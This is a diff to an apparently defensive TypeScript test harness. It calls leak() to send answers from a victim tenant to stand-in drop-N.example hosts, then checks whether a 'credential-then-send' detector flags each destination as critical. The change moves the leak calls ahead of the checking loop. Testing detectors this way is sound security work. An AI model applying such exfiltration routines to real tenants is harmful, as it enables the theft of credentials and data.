@@ -14,10 +14,10 @@ export const attack: Attack = {
   section: 1,
   run: async (context) => {
     const { target, victim } = await knownTenant(context)
+    for (const [index, answer] of ANSWERS.entries()) await leak(victim, `drop-${index}.example`, answer)
     const silent: string[] = []
     for (const [index, answer] of ANSWERS.entries()) {
       const destination = `drop-${index}.example`
-      await leak(victim, destination, answer)
       const found = await findingsOf(target, 'credential-then-send', destination)
       if (!found.some(({ severity }) => severity === 'critical')) silent.push(JSON.stringify(answer))
     }
